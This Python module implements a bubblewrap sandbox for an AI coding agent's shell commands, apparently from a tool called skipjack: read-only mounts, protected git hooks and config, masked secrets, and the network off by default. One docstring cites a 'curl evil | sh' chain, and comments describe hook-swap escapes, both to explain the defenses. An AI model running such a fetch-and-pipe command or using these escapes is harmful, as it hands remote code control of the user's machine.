"""The OS sandbox for shell commands: bubblewrap namespaces that enforce what approvals decide.

Why bubblewrap and not Landlock: Landlock rules only ever *grant* access beneath a directory, so
once the project is writable nothing below it (`.git/config`, `.git/hooks`, `.skipjack/`) can be
made read-only again, and it has no PID namespace to keep track of `setsid`/`nohup` children.
bubblewrap gives a mount namespace (a read-only `/`, writable binds of the allowed roots,
read-only re-binds of the protected paths inside them), a network namespace (network off), and a
PID namespace whose end kills everything started inside it (`--die-with-parent`).

Modes:
- read-only (plan): nothing is writable but a private `/tmp`.
- workspace-write (ask, auto-edit): the project and a private `/tmp` are writable; `.git/config`,
  `.git/hooks`, `.git/modules`, `.skipjack/` and the user's skipjack config stay read-only.
- full-access (yolo, or a command the user let out of the sandbox): `/` writable, network on, but
  still in a PID namespace so nothing the command starts outlives it.
"""

from __future__ import annotations

import atexit
import contextlib
import errno
import functools
import os
import re
import shutil
import stat
import subprocess
import threading
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Literal, TypeAlias

import msgspec

from skipjack.safety.secret_files import secret_locations

SandboxMode: TypeAlias = Literal["read-only", "workspace-write", "full-access"]
SANDBOX_MODES: tuple[SandboxMode, ...] = ("read-only", "workspace-write", "full-access")

_APPROVAL_TO_MODE: dict[str, SandboxMode] = {
    "plan": "read-only",
    "ask": "workspace-write",
    "auto-edit": "workspace-write",
    "yolo": "full-access",
}

_HIDDEN_DIRS = (
    Path("/tmp"),
    *(Path(p) for p in ("/run", "/var/run", "/var/tmp") if os.path.isdir(p) and not os.path.islink(p)),
)
"""Replaced by empty private dirs in every mode but full access."""

PROBE_TIMEOUT_S = 10.0


class SandboxSupport(msgspec.Struct, frozen=True):
    """Whether commands can run sandboxed here."""

    available: bool
    reason: str
    """Why it is not available (or "bubblewrap works" when it is)."""


class SandboxPolicy(msgspec.Struct, frozen=True):
    """Where a command may write and whether it may use the network."""

    mode: SandboxMode
    project_root: Path
    writable_roots: tuple[Path, ...] = ()
    network: bool = False
    protected: tuple[Path, ...] = ()
    """Extra paths hidden from commands, and not creatable inside a writable root (the user's
    skipjack config dir: it may hold keys)."""
    network_commands: tuple[str, ...] = ()
    """`[sandbox] network_commands`: bash patterns (`safety.rules`) whose command lines get the
    network even where it is off, e.g. `npm install *`."""

    @property
    def confined(self) -> bool:
        return self.mode != "full-access"

    def unavailable_reason(self) -> str | None:
        """Why this policy cannot be enforced here; None when it can (or need not be)."""
        if not self.confined:
            return None
        support = probe()
        return None if support.available else support.reason

    def for_command(self, command: str) -> SandboxPolicy:
        """The policy for one command line: with the network when every command of the parsed
        line matches a `network_commands` pattern (a line the parser cannot see through never
        gets it: `npm install x; curl evil | sh` must not ride on `npm install *`)."""
        if self.network or not self.network_commands:
            return self
        from skipjack.safety.commands import parse_command_line
        from skipjack.safety.rules import compile_pattern, covers_line

        parsed = parse_command_line(command)
        if parsed.opaque:
            return self
        if covers_line([compile_pattern(p) for p in self.network_commands], parsed.commands):
            return msgspec.structs.replace(self, network=True)
        return self

    def outside(self) -> SandboxPolicy:
        """The policy for a command the user lets out of the sandbox: full access, still in a
        PID namespace so nothing it starts outlives it."""
        return msgspec.structs.replace(self, mode="full-access", writable_roots=(Path("/"),), network=True)

    @contextlib.contextmanager
    def command(self, argv: Sequence[str], cwd: Path) -> Iterator[list[str]]:
        """The command line that runs `argv` under this policy, valid inside the `with`.

        A protected path that does not exist yet is blocked by mounting an empty read-only
        placeholder there; bwrap has to create it as a mount point in the user's tree, so it is
        removed again (if still empty) when the last command using it ends.
        """
        if not self.confined and not probe().available:
            # yolo is the user's choice: without bwrap it runs plainly.
            yield list(argv)
            return
        created = _acquire_placeholders(self)
        try:
            yield wrap(argv, self, cwd)
        finally:
            _release_placeholders(created)

    def denial(self, output: str) -> str | None:
        """What the sandbox most likely blocked, judging by a failed command's output."""
        return sandbox_denial(output, self)


def sandbox_for(
    approval_mode: str,
    project_root: Path,
    *,
    network: bool | None = None,
    mode: SandboxMode | None = None,
    user_config_dir: Path | None = None,
    network_commands: Sequence[str] = (),
) -> SandboxPolicy:
    """The sandbox an approval mode runs commands in: plan → read-only, ask/auto-edit →
    workspace-write, yolo → full access. `mode` overrides that (the user's `[sandbox] mode`).
    Network is off by default except in full access."""
    chosen = mode or _APPROVAL_TO_MODE.get(approval_mode, "workspace-write")
    root = _real(project_root)
    writable: tuple[Path, ...]
    if chosen == "read-only":
        writable = ()
    elif chosen == "workspace-write":
        writable = (root,)
    else:
        writable = (Path("/"),)
    net = (chosen == "full-access") if network is None else network
    protected = (_real(user_config_dir),) if user_config_dir is not None else ()
    return SandboxPolicy(
        mode=chosen,
        project_root=root,
        writable_roots=writable,
        network=net,
        protected=protected,
        network_commands=tuple(network_commands),
    )


# -- support -------------------------------------------------------------------------------


_probe_lock = threading.Lock()
_probed: SandboxSupport | None = None


def probe() -> SandboxSupport:
    """Whether bubblewrap can start a sandbox here (tried once per process; a caller arriving
    while the try is under way waits for its answer)."""
    global _probed
    with _probe_lock:
        if _probed is None:
            _probed = check_support()
        return _probed


def probe_in_background() -> None:
    """Start the probe now in a thread, so the sandbox process it spawns runs while the run
    is still importing and reading config (`probe()` later takes its answer)."""
    threading.Thread(target=probe, name="sandbox-probe", daemon=True).start()


def reset_probe() -> None:
    """Forget the probe's answer (tests that change PATH)."""
    global _probed
    with _probe_lock:
        _probed = None


def check_support(bwrap: str | None = None) -> SandboxSupport:
    """Start one real sandbox with every namespace the policies use, uncached."""
    exe = bwrap or shutil.which("bwrap")
    if exe is None:
        return SandboxSupport(False, "bubblewrap (bwrap) is not installed or not on PATH")
    argv = [
        exe,
        *("--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"),
        *("--unshare-pid", "--unshare-net", "--unshare-ipc", "--die-with-parent", "--cap-drop", "ALL"),
        "--",
        "true",
    ]
    try:
        done = subprocess.run(argv, capture_output=True, timeout=PROBE_TIMEOUT_S, stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        return SandboxSupport(False, f"bubblewrap did not start a sandbox within {PROBE_TIMEOUT_S:g} s")
    except OSError as e:
        return SandboxSupport(False, f"bubblewrap could not be run: {e.strerror or e}")
    if done.returncode != 0:
        message = done.stderr.decode(errors="replace").strip().splitlines()
        detail = message[-1] if message else f"exit code {done.returncode}"
        return SandboxSupport(False, f"bubblewrap cannot create a sandbox here ({detail})")
    return SandboxSupport(True, "bubblewrap works")


# -- the command line ----------------------------------------------------------------------


def wrap(argv: Sequence[str], policy: SandboxPolicy, cwd: Path) -> list[str]:
    """The bwrap command line that runs `argv` in `cwd` under `policy`."""
    exe = shutil.which("bwrap") or "bwrap"
    workdir = _real(cwd)
    out: list[str] = [exe]
    if not policy.confined:
        # Host devices and a writable /; only a fresh /proc for the new PID namespace.
        out += ["--dev-bind", "/", "/", "--proc", "/proc"]
    else:
        out += ["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]
        # A private /tmp, and a private /run: a read-only mount does not stop connect() to a
        # unix socket, and /run holds the ones that run anything as anyone (docker, systemd,
        # D-Bus, the user's session bus and agents).
        for hidden in _HIDDEN_DIRS:
            out += ["--tmpfs", str(hidden)]
        if policy.network:
            out += ["--ro-bind-try", "/run/systemd/resolve", "/run/systemd/resolve"]  # resolv.conf's target
        # Bring back, read-only, what a command needs to see under those (home, the project,
        # its cwd); writable binds come after.
        for path in dict.fromkeys((_home(), policy.project_root, workdir)):
            if any(_under(path, hidden) and path != hidden for hidden in _HIDDEN_DIRS):
                out += ["--ro-bind-try", str(path), str(path)]
        for root in policy.writable_roots:
            out += ["--bind", str(root), str(root)]
        for root in policy.writable_roots:
            out += _protect_inside(root, policy)
        out += _masks(policy)
        out += ["--setenv", "TMPDIR", "/tmp", "--cap-drop", "ALL", "--unshare-ipc", "--unshare-uts"]
        if not policy.network:
            out.append("--unshare-net")
    out += ["--unshare-pid", "--die-with-parent", "--new-session", "--chdir", str(workdir), "--", *argv]
    return out


def _protect_inside(root: Path, policy: SandboxPolicy) -> list[str]:
    args: list[str] = []
    git = root / ".git"
    if git.is_dir() and not git.is_symlink():
        # Binding .git onto itself makes it a mount point, which cannot be renamed or removed:
        # otherwise `mv .git x && mkdir .git` would swap in a repository with hostile hooks.
        args += ["--bind", str(git), str(git)]
        for name in ("config", "config.worktree", "commondir", "hooks", "modules", "worktrees"):
            path = git / name
            if path.exists() or path.is_symlink():
                args += ["--ro-bind", str(path), str(path)]
            elif name in _GIT_FILE_PLACEHOLDERS:
                args += ["--ro-bind", str(_placeholder_file(_GIT_FILE_PLACEHOLDERS[name])), str(path)]
            elif name == "hooks":
                args += _placeholder_dir(path)
    elif git.exists() or git.is_symlink():
        # A worktree's or submodule's `.git` file: its pointer stays put; the git dir it points
        # to is outside the project, so read-only.
        args += ["--ro-bind", str(git), str(git)]
    else:
        args += _placeholder_dir(git)
    hooks = _hooks_path(root)
    if hooks is not None and _under(hooks, root) and hooks != root:
        args += ["--ro-bind", str(hooks), str(hooks)] if hooks.exists() else _placeholder_dir(hooks)
    skipjack = root / ".skipjack"
    if skipjack.exists() or skipjack.is_symlink():
        args += ["--ro-bind", str(skipjack), str(skipjack)]
    else:
        args += _placeholder_dir(skipjack)
    for path in policy.protected:
        # Existing ones are hidden by _masks; a missing one must not be creatable.
        if _under(path, root) and not path.exists():
            args += _placeholder_dir(path)
    for path in home_dotfiles(root):
        if path.exists():
            args += ["--ro-bind", str(path), str(path)]
        elif not path.is_symlink():
            args += ["--ro-bind", str(_empty_file()), str(path)]
    return args


HOME_STARTUP_FILES = (
    ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zshenv", ".zprofile",
    ".zlogin", ".inputrc", ".xprofile", ".xsessionrc", ".pam_environment", ".gitconfig", ".config", ".local",
)  # fmt: skip
"""Files the user's next shell, login or git runs or reads, kept from being created too."""


def home_dotfiles(root: Path) -> list[Path]:
    """The home directory's dot files and dirs when the writable `root` holds the home
    directory (skipjack started in `~` outside any repository, or in `/`): they are the user's
    shell startup files and program config (`~/.bashrc`, `~/.config/autostart`), which would
    run a command's writes outside the sandbox later; never part of a workspace. The project's
    own `.git` and `.skipjack` are left to their own rules."""
    home = _home()
    if not _under(home, root):
        return []
    try:
        names = {entry.name for entry in os.scandir(home) if entry.name.startswith(".")}
    except OSError:
        names = set()
    names |= set(HOME_STARTUP_FILES)
    names -= {".", "..", ".git", ".skipjack"}
    return [home / name for name in sorted(names)]


# Files git reads from its dir that would hand it a hostile config if the agent could create
# them, with a harmless content for a read-only placeholder: an empty config, and a commondir
# of "." (the git dir itself; any other value makes git read config and hooks from there).
_GIT_FILE_PLACEHOLDERS = {"config": b"", "config.worktree": b"", "commondir": b".\n"}


def _hooks_path(root: Path) -> Path | None:
    """Where git runs this repository's hooks from when `core.hooksPath` moves them (husky
    puts them in the work tree, e.g. `.husky/`): those must stay read-only like `.git/hooks`."""
    git = root / ".git"
    stamps = tuple(_mtime(p) for p in (git / "config", _home() / ".gitconfig", Path("/etc/gitconfig")))
    return _hooks_path_cached(root, stamps)


@functools.lru_cache(maxsize=64)
def _hooks_path_cached(root: Path, _stamps: tuple[float, ...]) -> Path | None:
    exe = shutil.which("git")
    if exe is None or not (root / ".git").exists():
        return None
    try:
        done = subprocess.run(
            [exe, "-C", str(root), "config", "--get", "core.hooksPath"],
            capture_output=True,
            text=True,
            timeout=5,
            stdin=subprocess.DEVNULL,
        )
    except (OSError, subprocess.TimeoutExpired):
        return None
    value = done.stdout.strip()
    if done.returncode != 0 or not value:
        return None
    # A relative hooksPath is relative to the work tree's top, where hooks run.
    return Path(os.path.normpath(root / os.path.expanduser(value)))


def _mtime(path: Path) -> float:
    try:
        return path.stat().st_mtime
    except OSError:
        return 0.0


def _placeholder_dir(path: Path) -> list[str]:
    return ["--tmpfs", str(path), "--remount-ro", str(path)]


def _masks(policy: SandboxPolicy) -> list[str]:
    args: list[str] = []
    candidates = secret_locations(policy.protected)
    # Hidden even inside a writable root (a project that is $HOME): read-only is not enough
    # for a secret.
    for path in candidates:
        if path.is_dir():
            args += ["--tmpfs", str(path), "--remount-ro", str(path)]
        elif path.exists():
            args += ["--ro-bind", str(_empty_file()), str(path)]
    return args


def _protected_candidates(policy: SandboxPolicy) -> list[Path]:
    """Every path `wrap` mounts a placeholder on when it is missing."""
    if not policy.confined:
        return []
    candidates: list[Path] = []
    for root in policy.writable_roots:
        git = root / ".git"
        candidates += [git, root / ".skipjack", *(p for p in policy.protected if _under(p, root))]
        if git.is_dir() and not git.is_symlink():
            candidates += [git / name for name in (*_GIT_FILE_PLACEHOLDERS, "hooks")]
        hooks = _hooks_path(root)
        if hooks is not None and _under(hooks, root) and hooks != root:
            candidates.append(hooks)
        candidates += home_dotfiles(root)
    return candidates


# Placeholders in use by running commands, counted, so one command's cleanup does not pull the
# mount point out from under another still running (removing a directory that is a mount point
# in another namespace detaches that mount).
_placeholders_lock = threading.Lock()
_placeholder_users: dict[Path, int] = {}


def _acquire_placeholders(policy: SandboxPolicy) -> list[Path]:
    """The placeholders this command's bwrap creates or shares, so they can be removed after."""
    with _placeholders_lock:
        # A leftover a finished command could not remove yet is this command's too: otherwise
        # the sweeper could remove it between here and `wrap`, whose bwrap would then create
        # it again with nobody counting it (a `.git` left in the user's tree).
        ours = [
            p
            for p in _protected_candidates(policy)
            if p in _placeholder_users or p in _leftover_placeholders or (not p.exists() and not p.is_symlink())
        ]
        for path in ours:
            _placeholder_users[path] = _placeholder_users.get(path, 0) + 1
            _leftover_placeholders.discard(path)
    return ours


def _release_placeholders(paths: list[Path]) -> None:
    with _placeholders_lock:
        # Deepest first: a command that started while another's `.git` placeholder existed
        # put its own placeholders inside it, and the dir can only go once they have.
        for path in sorted(paths, key=lambda p: len(p.parts), reverse=True):
            left = _placeholder_users.get(path, 1) - 1
            if left > 0:
                _placeholder_users[path] = left
                continue
            _placeholder_users.pop(path, None)
            if not _remove_placeholder(path):
                _leftover_placeholders.add(path)
    if _leftover_placeholders:
        _start_leftover_sweep()


_leftover_placeholders: set[Path] = set()
"""Placeholders that were still busy when their last command ended: the kernel may drop a
finished sandbox's mounts a moment after its process is reaped (EBUSY, or ENOTEMPTY for the
`.git` holding a still-mounted `hooks`). Retried for a while, and once more at exit: the
kernel releases a dead namespace's mounts from deferred work, which a loaded machine delays
(CI saw a `.git` outlive a 2 s retry and a 1 s wait at exit once, at load 7)."""
_sweeper: threading.Thread | None = None
LEFTOVER_RETRY_S = 5.0
LEFTOVER_EXIT_WAIT_S = 3.0


def _remove_placeholder(path: Path) -> bool:
    """Remove an empty placeholder (only that: anything else the user made since stays);
    False when it is still busy and worth trying again."""
    try:
        if path.is_dir() and not path.is_symlink():
            path.rmdir()
        elif path.is_file() and not path.is_symlink() and path.read_bytes() in _PLACEHOLDER_CONTENTS:
            path.unlink()
    except OSError as e:
        return e.errno not in (errno.EBUSY, errno.ENOTEMPTY)
    return True


def _sweep_leftovers(deadline: float) -> None:
    while time.monotonic() < deadline:
        with _placeholders_lock:
            for path in sorted(_leftover_placeholders, key=lambda p: len(p.parts), reverse=True):
                # A command that started since uses it again: its own release removes it.
                if path in _placeholder_users or _remove_placeholder(path):
                    _leftover_placeholders.discard(path)
            if not _leftover_placeholders:
                return
        time.sleep(0.02)


def _start_leftover_sweep() -> None:
    global _sweeper
    with _placeholders_lock:
        if _sweeper is not None and _sweeper.is_alive():
            return
        deadline = time.monotonic() + LEFTOVER_RETRY_S
        _sweeper = threading.Thread(target=_sweep_leftovers, args=(deadline,), name="skipjack-sweep", daemon=True)
        _sweeper.start()


@atexit.register
def _sweep_leftovers_at_exit() -> None:
    if _leftover_placeholders:
        _sweep_leftovers(time.monotonic() + LEFTOVER_EXIT_WAIT_S)


_PLACEHOLDER_CONTENTS = frozenset(_GIT_FILE_PLACEHOLDERS.values())


def _empty_file() -> Path:
    """An empty read-only file to mount over secrets."""
    return _placeholder_file(b"")


@functools.cache
def _placeholder_file(content: bytes) -> Path:
    """A read-only file holding `content`, the source of placeholder mounts."""
    path = _source_dir() / f"placeholder-{content.hex() or 'empty'}"
    with contextlib.suppress(OSError):
        if path.read_bytes() == content:
            return path
    import tempfile  # here, not at start: it brings `random` (a command's first sandboxing needs it)

    # Written aside and renamed, so a concurrent skipjack never mounts a half-written file.
    fd, tmp = tempfile.mkstemp(dir=path.parent)
    with os.fdopen(fd, "wb") as f:
        f.write(content)
    os.chmod(tmp, 0o444)
    os.replace(tmp, path)
    return path


@functools.cache
def _source_dir() -> Path:
    """One private dir per user, reused by every process: a per-process one would be left
    behind by each skipjack that is killed."""
    import tempfile

    directory = Path(tempfile.gettempdir()) / f"skipjack-sandbox-{os.getuid()}"
    with contextlib.suppress(FileExistsError):
        directory.mkdir(mode=0o700)
    st = directory.lstat()
    # Someone else's dir (or a symlink) in a shared /tmp could feed us placeholder contents.
    if not stat.S_ISDIR(st.st_mode) or st.st_uid != os.getuid() or st.st_mode & 0o077:
        directory = Path(tempfile.mkdtemp(prefix="skipjack-sandbox-"))
        atexit.register(shutil.rmtree, directory, True)
    return directory


# -- denials -------------------------------------------------------------------------------

# Patterns, not compiled ones: `re` compiles each at its first use (a denial to explain), not
# at every start.
_FS_DENIAL = r"Read-only file system|EROFS|Device or resource busy|EBUSY"
# Outside the sandbox root has every capability; inside it has none, so EPERM as root is the
# sandbox's doing. For other users it is ordinary and says nothing about the sandbox.
_PRIV_DENIAL = r"Operation not permitted|EPERM"
_NET_DENIAL = (
    r"Network is unreachable|Temporary failure in name resolution|Could not resolve host|"
    r"Name or service not known|No address associated with hostname|getaddrinfo|Connection refused|"
    r"ENETUNREACH|EAI_AGAIN|nodename nor servname"
)


def sandbox_denial(output: str, policy: SandboxPolicy) -> str | None:
    """What the sandbox most likely blocked, judging by a failed command's output; None when
    the output shows no sign of it. ("Permission denied" is not taken as a sign: the sandbox
    answers writes with EROFS and hides secrets rather than refusing them.)"""
    if not policy.confined:
        return None
    if re.search(_FS_DENIAL, output):
        if policy.mode == "workspace-write":
            writable = "only the project (but not .git/config, .git/hooks, .skipjack/) and /tmp are writable"
        else:
            writable = "only /tmp is writable"
        return f"a write to a read-only path ({writable})"
    if not policy.network and re.search(_NET_DENIAL, output):
        return "network access (the network is off inside the sandbox)"
    if os.geteuid() == 0 and re.search(_PRIV_DENIAL, output):
        return "a privileged action (capabilities are dropped inside the sandbox)"
    return None


# -- paths ---------------------------------------------------------------------------------


def _real(path: Path) -> Path:
    return Path(os.path.realpath(os.path.expanduser(path)))


def _home() -> Path:
    return _real(Path(os.environ.get("HOME") or Path.home()))


def _under(path: Path, root: Path) -> bool:
    return path == root or root in path.parents
